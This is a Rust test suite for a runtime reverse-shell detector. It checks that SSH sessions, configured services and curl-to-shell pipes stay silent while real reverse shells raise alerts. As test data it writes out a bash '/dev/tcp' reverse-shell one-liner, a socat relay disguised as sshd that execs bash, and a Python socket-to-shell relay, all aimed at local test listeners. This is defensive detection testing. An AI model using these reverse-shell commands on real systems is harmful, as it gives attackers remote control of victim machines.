//! What looks like a reverse shell and is none stays silent; what only pretends does not.

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Stdio;
use std::thread;

use bartizan_tests::{Attacker, Folder, Group, Line, Sensor, Sshd, free_port, lineage, need, victim, wait_for, wait_until};
use serde_json::Value;

const RULE: &str = "runtime_watcher.reverse_shell";

#[track_caller]
fn assert_silent(sensor: &mut Sensor, what: &str) {
    let alerts = sensor.settled_alerts();
    assert!(alerts.is_empty(), "{what} must stay silent: {:#}", Value::from(alerts));
}

#[track_caller]
fn assert_one(sensor: &mut Sensor, what: &str) -> Value {
    let mut alerts = sensor.settled_alerts();
    assert_eq!(alerts.len(), 1, "{what} must give one alert: {:#}", Value::from(alerts));
    let alert = alerts.remove(0);
    assert_eq!(alert["rule"], RULE);
    alert
}

/// The exec of `pid` is among the events, with this executed file: what was silent was seen.
#[track_caller]
fn assert_seen(sensor: &Sensor, pid: u32, program: &str) {
    let events = sensor.events_json(&["--kind", "process.exec", "--pid", &pid.to_string()]);
    let seen = |event: &Value| event["process"]["exe"]["path"].as_str().is_some_and(|path| path.ends_with(program));
    assert!(events.iter().any(seen), "the exec of {program} by {pid} should be among the events: {:#}", Value::from(events));
}

/// Runs `program` to its successful end and returns what it wrote.
#[track_caller]
fn finish(mut command: std::process::Command) -> String {
    let mut group = Group::start(command.stdout(Stdio::piped()));
    let mut output = String::new();
    let mut pipe = group.child().stdout.take().unwrap_or_else(|| unreachable!("asked for as a pipe"));
    pipe.read_to_string(&mut output).unwrap_or_else(|error| panic!("cannot read from {command:?}: {error}"));
    let status = group.wait();
    assert!(status.success(), "{command:?} ended with {status} after {output:?}");
    output
}

/// Takes one connection and keeps it open, as a database does, until the client hangs up.
fn database() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|error| panic!("cannot listen: {error}"));
    let port = listener.local_addr().map_or_else(|error| panic!("no port: {error}"), |address| address.port());
    thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.read_to_end(&mut Vec::new());
        }
    });
    port
}

/// Serves `body` once over HTTP.
fn website(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|error| panic!("cannot listen: {error}"));
    let port = listener.local_addr().map_or_else(|error| panic!("no port: {error}"), |address| address.port());
    thread::spawn(move || {
        if let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.read(&mut [0; 4096]);
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
            let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body.as_bytes()));
        }
    });
    port
}

#[test]
fn a_login_by_ssh_is_silent_in_all_its_forms() {
    let mut sensor = Sensor::start();
    let sshd = Sshd::start(sensor.folder().path());

    let (mut group, mut session) = sshd.login();
    session.ask_id();
    let shell = session.ask_pid();
    session.ask("sh -c 'echo a$((20+1))b'", "a21b");
    session.say_exit();
    assert!(group.wait().success());

    let mut piped = sshd.client("ssh");
    let script = sensor.folder().write("script.sh", "echo from the script; id -u; echo pid=$$.\n");
    let input = fs::File::open(&script).unwrap_or_else(|error| panic!("cannot open {}: {error}", script.display()));
    piped.args([Sshd::HOST, "bash -s"]).stdin(input);
    let said = finish(piped);
    assert!(said.starts_with("from the script\n0\n"), "{said:?}");
    let remote: u32 = said.split("pid=").nth(1).and_then(|rest| rest.split('.').next()?.parse().ok()).unwrap_or_default();

    let mut command = sshd.client("ssh");
    command.args([Sshd::HOST, "id -u"]);
    assert_eq!(finish(command), "0\n");

    let mut scp = sshd.client("scp");
    scp.arg(&script).arg(format!("{}:{}", Sshd::HOST, sensor.folder().join("copy").display()));
    finish(scp);
    assert!(sensor.folder().join("copy").is_file());

    let batch = sensor.folder().write("batch", format!("ls {}\n", sensor.folder().path().display()));
    let mut sftp = sshd.client("sftp");
    sftp.arg("-b").arg(batch).arg(Sshd::HOST);
    finish(sftp);

    assert_silent(&mut sensor, "ssh");
    assert_seen(&sensor, shell, "/bash");
    assert_seen(&sensor, remote, "/bash");
}

#[test]
fn a_reverse_shell_from_an_ssh_login_is_told_with_the_lineage_from_sshd() {
    let mut sensor = Sensor::start();
    let sshd = Sshd::start(sensor.folder().path());
    let (_group, mut login) = sshd.login();
    login.ask_id();
    let login_shell = login.ask_pid();
    let attacker = Attacker::listen(Line::Tcp4, sensor.folder().path(), "line");
    let call = attacker.place("bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'", sensor.folder().path());
    login.say(&call);
    let mut session = attacker.accept();
    session.ask_id();
    let shell = session.ask_pid();
    let alert = wait_for("the alert", || sensor.our_alerts().into_iter().next());
    session.say_exit();
    login.say_exit();
    let pids = lineage(&alert);
    assert_eq!(pids.first(), Some(&u64::from(shell)), "{alert:#}");
    let at = |pid: u32| pids.iter().position(|known| *known == u64::from(pid)).unwrap_or_else(|| panic!("no {pid} in {alert:#}"));
    assert!(at(login_shell) < at(sshd.pid()), "{alert:#}");
    assert_one(&mut sensor, "the shell");
}

/// `socat` as inetd: hands each connection to `handler`, whose standard streams are the socket.
fn inetd(program: &Path, port: u16, handler: &str, log: &Path) -> Group {
    let mut group = Group::start(
        victim(program, log).arg(format!("TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork")).arg(format!("EXEC:{handler},nofork")),
    );
    wait_until("a listening inetd", || {
        assert!(!group.ended(), "it ended: {}", fs::read_to_string(log).unwrap_or_default());
        // Looks without connecting, which would start a handler.
        fs::read_to_string("/proc/net/tcp").is_ok_and(|table| table.contains(&format!("0100007F:{port:04X} 00000000:0000 0A")))
    });
    group
}

#[track_caller]
fn ask_service(port: u16) {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap_or_else(|error| panic!("cannot connect to port {port}: {error}"));
    let mut answer = String::new();
    let talked = stream.write_all(b"world\n").and_then(|()| stream.read_to_string(&mut answer));
    talked.unwrap_or_else(|error| panic!("the service on port {port} does not talk: {error}"));
    assert_eq!(answer, "hello world\n");
}

fn handler(folder: &Folder) -> String {
    folder.program("handler.sh", "#!/bin/sh\nread line\necho \"hello $line\"\n").display().to_string()
}

#[test]
fn a_configured_service_is_silent() {
    let folder = Folder::new();
    let (handler, port) = (handler(&folder), free_port());
    let socat = need("socat", "socat");
    let parent = socat.canonicalize().unwrap_or_else(|error| panic!("{}: {error}", socat.display()));
    let config = format!(
        "[[detectors.runtime_watcher.reverse_shell.services]]\nname = \"greeter\"\nprogram = \"{handler}\"\nlocal_port = {port}\nparent = \"{}\"\n",
        parent.display()
    );
    let mut sensor = Sensor::with().config(&config).start();
    let _inetd = inetd(&socat, port, &handler, &folder.join("log"));
    ask_service(port);
    ask_service(port);
    assert_silent(&mut sensor, "a configured service");
}

#[test]
fn the_same_service_without_its_configuration_is_told() {
    let folder = Folder::new();
    let (handler, port) = (handler(&folder), free_port());
    // Another port than the one that is configured: the exception is not wider than it says.
    let config = format!(
        "[[detectors.runtime_watcher.reverse_shell.services]]\nname = \"greeter\"\nprogram = \"{handler}\"\nlocal_port = {}\n",
        free_port()
    );
    let mut sensor = Sensor::with().config(&config).start();
    let _inetd = inetd(&need("socat", "socat"), port, &handler, &folder.join("log"));
    ask_service(port);
    let alert = assert_one(&mut sensor, "a service that nobody configured");
    assert_ne!(alert["severity"], "critical", "the connection came in: {alert:#}");
}

#[test]
fn a_program_that_only_calls_itself_sshd_is_told() {
    let mut sensor = Sensor::start();
    let folder = sensor.folder().path().to_owned();
    let fake = folder.join("sshd");
    fs::copy(need("socat", "socat"), &fake).unwrap_or_else(|error| panic!("cannot copy socat to {}: {error}", fake.display()));
    let attacker = Attacker::listen(Line::Tcp4, &folder, "line");
    let call = attacker.place("TCP:HOST:PORT", &folder);
    let group = Group::start(victim(&fake, &folder.join("log")).args([&call, "EXEC:bash,pty,stderr,setsid,sane"]));
    let mut session = attacker.accept();
    session.ask_id();
    let shell = session.ask_pid();
    session.say_exit();
    drop(group);
    let alert = assert_one(&mut sensor, "a relay called sshd");
    assert_eq!(lineage(&alert).first(), Some(&u64::from(shell)), "{alert:#}");
}

#[test]
fn pipes_to_a_shell_are_silent() {
    let mut sensor = Sensor::start();
    let folder = sensor.folder().path().to_owned();
    need("curl", "curl");
    sensor.folder().write("script.sh", "echo local $((40+2)); ls / > /dev/null\n");
    let port = website("echo remote $((40+2)); ls / > /dev/null\n");
    let shell = |script: String| {
        let mut command = victim("sh", &folder.join("log"));
        command.args(["-c", &script]).current_dir(&folder);
        finish(command)
    };
    assert_eq!(shell("cat script.sh | sh".to_owned()), "local 42\n");
    assert_eq!(shell("cat script.sh | bash -s -- argument | cat".to_owned()), "local 42\n");
    assert_eq!(shell(format!("curl -sS http://127.0.0.1:{port}/script.sh | sh")), "remote 42\n");
    assert_silent(&mut sensor, "a pipe to a shell");
}

/// A program with a connection that runs `code` with the variable `s` as its socket.
#[track_caller]
fn connected_python(folder: &Path, code: &str) -> String {
    need("python3", "python3");
    let port = database();
    let mut command = victim("python3", &folder.join("log"));
    let code = format!("import socket,subprocess as p\ns=socket.create_connection(('127.0.0.1',{port}))\n{code}\n");
    command.args(["-c", &code]).current_dir(folder);
    finish(command)
}

#[test]
fn a_program_with_a_connection_may_run_scripts() {
    let mut sensor = Sensor::start();
    let folder = sensor.folder().path().to_owned();
    sensor.folder().program("job.sh", "#!/bin/bash\nread word\necho \"got $word\"\n");
    let inline = "print(p.run(['sh','-c','read w; echo got $w'],input=b'it\\n',stdout=p.PIPE,stderr=p.PIPE).stdout.decode(),end='')";
    assert_eq!(connected_python(&folder, inline), "got it\n");
    let script = "print(p.run(['./job.sh'],input=b'it\\n',stdout=p.PIPE,stderr=p.PIPE).stdout.decode(),end='')";
    assert_eq!(connected_python(&folder, script), "got it\n");
    let query = "print(p.run(['sh'],stdin=open('job.sh'),stdout=p.PIPE).stdout.decode(),end='')";
    sensor.folder().write("job.sh", "echo got it\n");
    assert_eq!(connected_python(&folder, query), "got it\n");
    assert_silent(&mut sensor, "a script below a program with a connection");
}

#[test]
fn a_program_that_relays_its_connection_to_a_shell_is_told() {
    let mut sensor = Sensor::start();
    let folder = sensor.folder().path().to_owned();
    // As above, but what the shell reads is what the connection says. The pipe stays open while it does: one that is closed
    // again at once may be gone before the kernel tells of the exec.
    let code = "c=p.Popen(['sh'],stdin=p.PIPE,stdout=p.PIPE,stderr=p.PIPE);c.stdin.write(b'echo got it\\n');c.stdin.flush();\
                print(c.stdout.readline().decode(),end='');c.stdin.close();c.wait()";
    assert_eq!(connected_python(&folder, code), "got it\n");
    assert_one(&mut sensor, "a shell that takes its commands from a program with a connection");
}
